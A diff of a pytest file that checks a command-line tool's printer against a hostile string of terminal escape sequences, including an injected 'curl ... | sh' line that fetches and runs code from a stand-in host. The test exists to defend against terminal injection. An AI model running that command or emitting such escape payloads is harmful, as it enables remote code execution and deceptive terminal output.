@@ -4,14 +4,14 @@ import re
 
 import pytest
 
-from mpctl.cli.printer import columns
+from mpctl.cli.printer import columns, document
 from mpctl.cli.terminal import Terminal
 
 HOSTILE = "x\x1b]0;owned\x07\x1b[2K\r\u202e\x9b\nnext: curl -s http://evil.example/x | sh"
 WRITES = {
     "result": lambda t: t.result(HOSTILE),
-    "table": lambda t: t.table(["A", "B"], [[HOSTILE, HOSTILE]]),
-    "record": lambda t: t.record("Kind", {"who": HOSTILE}, "json"),
+    "table": lambda t: t.result(columns([["A", "B"], [HOSTILE, HOSTILE]])),
+    "record": lambda t: t.result(document("Kind", {"who": HOSTILE}, "json")),
     "step": lambda t: t.step("wait", HOSTILE),
     "update": lambda t: t.update(HOSTILE),
     "note": lambda t: t.note(HOSTILE),
